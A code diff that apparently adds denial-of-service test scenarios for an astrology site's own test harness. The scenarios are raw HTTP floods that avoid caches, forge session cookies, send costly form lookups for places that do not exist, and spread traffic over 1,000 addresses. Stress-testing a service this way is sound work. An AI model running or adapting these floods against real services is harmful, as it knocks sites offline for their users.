@@ -1,0 +1,103 @@
+import { setTimeout as wait } from 'node:timers/promises';
+import { openSocket, type Attack, type Loot, type Stage } from './stage';
+
+/** Requests at the beginning, all at once, and then for the rest of the time. */
+const BURST = 200;
+const PER_SECOND = 25;
+const PAUSE_MS = 1_000 / PER_SECOND;
+
+const CITIES = ['pune', 'surat', 'jaipur', 'kanpur', 'nagpur', 'indore', 'bhopal', 'patna'];
+const SIGNS = ['aries', 'taurus', 'gemini', 'cancer', 'leo', 'virgo', 'libra', 'scorpio'];
+const MONTHS = ['january', 'february', 'march', 'april', 'may', 'june', 'july', 'august'];
+/** With a session that nobody has: kept pages are then made for the attacker alone. */
+const FORGED = 'Cookie: taravani=x\r\n';
+
+type Shot = (count: number, loot: Loot) => string;
+
+const get = (path: string, header = '') => `GET ${path} HTTP/1.1\r\nHost: site\r\n${header}\r\n`;
+const among = (list: readonly string[], count: number) => list[count % list.length] ?? '';
+/** 1950 to 2100, which are the years that the site computes. */
+const year = (count: number) => String(1950 + (Math.floor(count / 8) % 151));
+const month = (count: number) => `${year(count)}-${String((count % 12) + 1).padStart(2, '0')}`;
+const day = (count: number) => `${month(count)}-${String((count % 28) + 1).padStart(2, '0')}`;
+const panchang = (behind: (count: number) => string) => (count: number) =>
+  get(`/panchang/${among(CITIES, count)}/${behind(count)}`);
+
+/** A form of a birth, or of two, with a place that is none: looking for it costs most. */
+function post(path: string, prefixes: readonly string[]): Shot {
+  return (count) => {
+    const body = new URLSearchParams(
+      prefixes.flatMap((prefix) => {
+        const name = (field: string) =>
+          prefix === '' ? field : prefix + field[0]?.toUpperCase() + field.slice(1);
+        return [
+          [name('dobDay'), String((count % 28) + 1)],
+          [name('dobMonth'), String((count % 12) + 1)],
+          [name('dobYear'), year(count)],
+          [name('timeOfBirth'), '10:15'],
+          [name('place'), count % 2 ? 'Pune' : `नही ${String(count)} ऐसी जगह कहीं भी मिलती होगी`],
+        ];
+      }),
+    ).toString();
+    return (
+      `POST ${path} HTTP/1.1\r\nHost: site\r\nOrigin: http://site\r\n` +
+      `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${String(body.length)}\r\n\r\n${body}`
+    );
+  };
+}
+
+/** Every kind of answer that has to be made. Each count asks for another one. */
+const KINDS: Readonly<Record<string, Shot>> = {
+  'panchang days': panchang(day),
+  'panchang months': panchang(month),
+  'panchang months as data': panchang((count) => `${month(count)}.data`),
+  'panchang months, json': panchang((count) => `${month(count)}.json`),
+  'panchang months, ics': panchang((count) => `${month(count)}.ics`),
+  'festival months': (count) => get(`/festival/${among(MONTHS, count)}?year=${year(count)}`),
+  'festival calendars': (count) =>
+    get(`/festival/calendar/${year(count)}/${among(MONTHS, count)}.ics`),
+  'day cards': (count) => get(`/day-card/${among(CITIES, count)}/${day(count)}`),
+  'kundli forms': () => get('/kundli', FORGED),
+  'matching forms': () => get('/kundli-matching', FORGED),
+  kundlis: post('/kundli', ['']),
+  matchings: post('/kundli-matching', ['first', 'second']),
+  readings: (count) =>
+    get(`/${count % 2 ? 'weekly' : 'monthly'}-horoscope/${among(SIGNS, count)}`, FORGED),
+  'share pictures': (count, { festivals }) =>
+    get(`${count % 2 ? '/hi' : ''}/pictures/share/festival/${among(festivals, count >> 1)}.png`),
+  'searches of cities': (count) => get(`/my-city?q=${encodeURIComponent(`पु${String(count)}`)}`),
+};
+
+/** Asks without waiting for answers, and closes each connection as soon as the request has left. */
+function openLoop(shots: readonly Shot[], addresses: number): Attack {
+  return async (stage) => {
+    // The same kind may be attacked before: what it had made is kept.
+    let count = Math.floor(Math.random() * 10_000) * shots.length;
+    const fire = () => {
+      count += 1;
+      const shot = shots[count % shots.length];
+      if (shot) sendAndLeave(stage, count % addresses, shot(count, stage.loot));
+      stage.tally.add('sent');
+    };
+    for (let number = 0; number < BURST; number += 1) fire();
+    while (stage.isOn()) {
+      fire();
+      await wait(PAUSE_MS);
+    }
+  };
+}
+
+function sendAndLeave(stage: Stage, address: number, text: string): void {
+  const socket = openSocket(stage, address);
+  socket.end(text, () => socket.destroy());
+}
+
+/** By its name: each kind and all of them in turn, from one address and from a thousand. */
+export const OPEN_LOOPS: Readonly<Record<string, Attack>> = Object.fromEntries(
+  [...Object.entries(KINDS).map(([kind, shot]) => [kind, [shot]] as const)]
+    .concat([['all kinds', Object.values(KINDS)]])
+    .flatMap(([kind, shots]) => [
+      [`open-loop: ${kind}, one address`, openLoop(shots, 1)],
+      [`open-loop: ${kind}, 1,000 addresses`, openLoop(shots, 1_000)],
+    ]),
+);
